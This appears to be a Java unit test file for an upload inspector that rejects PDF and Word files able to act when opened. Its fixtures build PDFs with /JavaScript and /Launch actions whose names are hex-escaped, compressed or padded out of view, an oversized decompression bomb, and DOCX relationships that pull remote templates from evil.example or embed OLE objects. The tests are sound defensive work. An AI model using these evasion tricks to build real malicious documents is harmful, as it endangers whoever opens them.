package org.hifazat.platform.web.file;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Papers and letters that would do something on the computer of who opens them. */
class ActingFilesTest {
  private static final Inspection REFUSED = Inspection.unsafe();
  private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/";

  private static Inspection paper(byte[] objects) {
    ByteArrayOutputStream whole = new ByteArrayOutputStream();
    whole.writeBytes("%PDF-1.5\n".getBytes(ISO_8859_1));
    whole.writeBytes(objects);
    whole.writeBytes("\ntrailer << /Root 1 0 R >>\n%%EOF\n".getBytes(ISO_8859_1));
    return FileInspector.inspect(FileKind.PDF, whole.toByteArray());
  }

  private static byte[] packed(String dictionary, byte[] objects) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(
        ("9 0 obj << /Type " + dictionary + " /Filter /FlateDecode >>\nstream\r\n")
            .getBytes(ISO_8859_1));
    try (DeflaterOutputStream deflated = new DeflaterOutputStream(out)) {
      deflated.write(objects);
    } catch (IOException fault) {
      throw new UncheckedIOException(fault);
    }
    out.writeBytes("\nendstream endobj\n".getBytes(ISO_8859_1));
    return out.toByteArray();
  }

  @ParameterizedTest
  @ValueSource(strings = {"<< /S /JavaScript >>", "<< /S /J#61vaScript >>", "<< /S /#4c#61unch >>"})
  void aPaperThatActsIsRefusedHoweverItsNamesAreWrittenOrPacked(String object) {
    assertThat(paper(object.getBytes(ISO_8859_1))).isEqualTo(REFUSED);
    assertThat(paper(packed("/ObjStm", object.getBytes(ISO_8859_1)))).isEqualTo(REFUSED);
    assertThat(paper(packed("/Obj#53tm", (" ".repeat(70_000) + object).getBytes(ISO_8859_1))))
        .isEqualTo(REFUSED);
  }

  @Test
  void aPaperWhosePackedObjectsDoNothingIsKeptAndOneThatUnpacksWithoutEndIsNot() {
    assertThat(paper(packed("/ObjStm", "<< /Type /Page /Java 1 >>".getBytes(ISO_8859_1))))
        .isInstanceOf(Inspection.Sound.class);
    assertThat(paper("<< /Type /ObjStm >>\nstream\nnot packed".getBytes(ISO_8859_1)))
        .isInstanceOf(Inspection.Sound.class);
    assertThat(paper(packed("/ObjStm", new byte[50 << 20]))).isEqualTo(REFUSED);
  }

  /** However a dictionary is filled up, and where names are in a code that is not looked into. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "/Pad (%s) ",
        "/Decoy (stream) ",
        "/Decoy (endstream) ",
        "/Filter [/FlateDecode /ASCIIHexDecode] "
      })
  void aPaperIsRefusedWhosePackedObjectsAreHiddenFromView(String more) {
    byte[] object = "<< /S /JavaScript >>".getBytes(ISO_8859_1);
    assertThat(paper(packed("/ObjStm " + more.formatted("x".repeat(5000)), object)))
        .isEqualTo(REFUSED);
  }

  @Test
  void aPaperIsRefusedWhosePackedObjectsAreEncryptedOrHexadecimal() {
    assertThat(
            paper(
                "9 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n\u00a7\u0017%q endstream endobj"
                    .getBytes(ISO_8859_1)))
        .isEqualTo(REFUSED);
    assertThat(
            paper(
                "9 0 obj << /Filter /ASCIIHexDecode /Type /ObjStm >>\nstream\n3c3c2f53> endstream endobj"
                    .getBytes(ISO_8859_1)))
        .isEqualTo(REFUSED);
    byte[] page = "<< /Type /Page >>".getBytes(ISO_8859_1);
    ByteArrayOutputStream two = new ByteArrayOutputStream();
    two.writeBytes(packed("/ObjStm", page));
    two.writeBytes(
        "7 0 obj << /Filter /ASCII85Decode >>\nstream\nabc~> endstream endobj\n"
            .getBytes(ISO_8859_1));
    two.writeBytes(packed("/ObjStm", page));
    assertThat(paper(two.toByteArray())).isInstanceOf(Inspection.Sound.class);
  }

  private static Inspection letter(byte[] relations) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      put(
          zip,
          "[Content_Types].xml",
          ("<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument"
                  + ".wordprocessingml.document.main+xml\"/></Types>")
              .getBytes(UTF_8));
      put(zip, "word/document.xml", "<w:document/>".getBytes(UTF_8));
      put(zip, "word/_rels/settings.xml.rels", relations);
    } catch (IOException fault) {
      throw new UncheckedIOException(fault);
    }
    return FileInspector.inspect(FileKind.DOCX, out.toByteArray());
  }

  private static void put(ZipOutputStream zip, String name, byte[] content) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(content);
    zip.closeEntry();
  }

  private static String relation(String kind, String target, String mode) {
    return "<Relationships><Relationship Id=\"r1\" Type=\"%srelationships/%s\" Target=\"%s\"%s/></Relationships>"
        .formatted(RELATION, kind, target, mode.isEmpty() ? "" : " TargetMode='" + mode + "'");
  }

  @ParameterizedTest
  @CsvSource({
    "attachedTemplate,https://evil.example/a.dotm,External",
    "attachedTemplate,file://evil.example/share/a.dotm,External",
    "image,https://evil.example/seen.png,external",
    "oleObject,media/object.bin,''",
    "aFChunk,page.html,''"
  })
  void aLetterThatFetchesOrBringsSomethingThatActsIsRefused(
      String kind, String target, String mode) {
    String relations = relation(kind, target, mode);
    assertThat(letter(relations.getBytes(UTF_8))).isEqualTo(REFUSED);
    assertThat(letter(("<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + relations).getBytes(UTF_16)))
        .isEqualTo(REFUSED);
  }

  @ParameterizedTest
  @CsvSource({
    "hyperlink,https://example.org/,External",
    "attachedTemplate,file:///C:\\Templates\\letter.dotx,External",
    "image,media/image1.png,''"
  })
  void aLinkToFollowAndTheWritersOwnTemplateMayStay(String kind, String target, String mode) {
    assertThat(letter(relation(kind, target, mode).getBytes(UTF_8)))
        .isInstanceOf(Inspection.Sound.class);
  }

  @Test
  void relationsThatCannotBeReadAreRefused() {
    assertThat(letter("<Relationships><Relationship".getBytes(UTF_8))).isEqualTo(REFUSED);
    assertThat(letter("<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>".getBytes(UTF_8)))
        .isEqualTo(REFUSED);
  }
}
